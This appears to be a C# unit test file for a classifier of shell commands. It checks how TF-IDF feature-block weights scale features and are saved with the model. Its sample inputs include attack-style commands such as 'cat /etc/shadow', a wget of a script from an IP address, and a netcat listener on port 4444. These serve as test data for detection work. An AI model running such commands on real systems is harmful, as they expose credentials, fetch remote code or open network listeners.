using AttackClassifier.Classification;
using AttackClassifier.Kernels;
using AttackClassifier.Serialization;
using AttackClassifier.Tests.Data;
using AttackClassifier.Text;

namespace AttackClassifier.Tests.Text;

public class BlockWeightTests
{
    private static readonly string[] Documents = ["cat /etc/shadow", "uname -a; id", "wget http://203.0.113.7/x.sh", "ls -la /root"];

    // scikit-learn's FeatureUnion(transformer_weights={"char": w}) multiplies that block's output, after its normalisation.
    [Theory]
    [InlineData(0.5)]
    [InlineData(2.0)]
    [InlineData(0.0)]
    public void A_block_weight_multiplies_the_normalised_block_and_nothing_else(double weight)
    {
        var word = new TfidfOptions();
        var chars = new TfidfOptions { Analyzer = TextAnalyzer.CharWordBoundary, NGramRange = new(2, 4) };
        CsrMatrix plain = TfidfFeatureUnion.Fit(Documents, word, chars).Transform(Documents);
        CsrMatrix weighted = TfidfFeatureUnion.Fit(Documents, word, chars with { BlockWeight = weight }).Transform(Documents);
        int wordColumns = TfidfVectorizer.Fit(Documents, word).FeatureCount;
        for (int n = 0; n < Documents.Length; n++)
        {
            Assert.Equal(plain.RowColumns(n).ToArray(), weighted.RowColumns(n).ToArray());
            double[] a = plain.RowValues(n).ToArray(), b = weighted.RowValues(n).ToArray();
            int[] columns = plain.RowColumns(n).ToArray();
            for (int e = 0; e < a.Length; e++) Assert.Equal(columns[e] < wordColumns ? a[e] : weight * a[e], b[e], 1e-15);
        }
    }

    [Fact]
    public void Block_weights_are_validated_and_saved_with_the_model()
    {
        Assert.Throws<ArgumentException>(() => TfidfVectorizer.Fit(Documents, new TfidfOptions { BlockWeight = -1 }));
        Assert.Throws<ArgumentException>(() => TfidfVectorizer.Fit(Documents, new TfidfOptions { BlockWeight = double.NaN }));
        var data = AttackClassifier.Data.CommandDataset.Load(SampleDataTests.SamplePath);
        var options = TfidfLogisticRegressionOptions.Study with
        {
            Features = [new TfidfOptions(), new TfidfOptions { Analyzer = TextAnalyzer.CharWordBoundary, NGramRange = new(2, 4), BlockWeight = 0.25 }],
            Classifier = new() { MaxIterations = 20 },
        };
        var trained = TfidfLogisticRegressionClassifier.Train(data, options);
        var stream = new MemoryStream();
        ModelFile.Save(trained, stream);
        var loaded = (TfidfLogisticRegressionClassifier)ModelFile.Load(new MemoryStream(stream.ToArray()), "m");
        Assert.Equal(0.25, loaded.Vectorizer.Parts[1].Options.BlockWeight);
        double[] p = new double[trained.Labels.Count], q = new double[trained.Labels.Count];
        trained.PredictProbabilities("nc -lvnp 4444", p);
        loaded.PredictProbabilities("nc -lvnp 4444", q);
        Assert.Equal(p, q);
    }
}
